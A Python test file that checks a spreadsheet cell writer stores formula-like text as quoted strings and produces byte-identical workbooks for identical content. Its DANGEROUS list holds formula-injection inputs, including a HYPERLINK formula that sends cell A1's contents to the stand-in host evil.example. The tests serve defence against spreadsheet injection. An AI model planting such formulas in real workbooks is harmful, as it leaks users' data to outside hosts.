"""X-1: the one cell writer never lets text become a formula; workbooks are byte-identical for equal content."""

import datetime
import io
import time
import zipfile

from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from common.xlsx import cell, new_workbook, workbook_bytes

CREATED = datetime.datetime(2021, 4, 30, 12, 0)
DANGEROUS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\x00=1"]


def _book(values) -> bytes:
    wb = new_workbook(created=CREATED)
    ws = wb.create_sheet("Ark")
    ws.append([cell(ws, v) for v in values])
    return workbook_bytes(wb)


def test_dangerous_text_is_written_as_quoted_text():
    data = _book(DANGEROUS)
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml
    ws = load_workbook(io.BytesIO(data))["Ark"]
    for c in ws[1]:
        assert c.data_type == "s"
        assert c.quotePrefix
    assert ws["A1"].value == DANGEROUS[0]
    assert ws["G1"].value == "=1"  # the NUL byte is dropped, the rest stays text


def test_same_content_gives_the_same_bytes_at_another_time():
    first = _book(["a", 1, 2.5])
    time.sleep(1.1)
    assert _book(["a", 1, 2.5]) == first


@settings(max_examples=60, deadline=None)
@given(st.text(min_size=1, max_size=40))
def test_no_text_ever_becomes_a_formula(text):
    data = _book([text])
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml
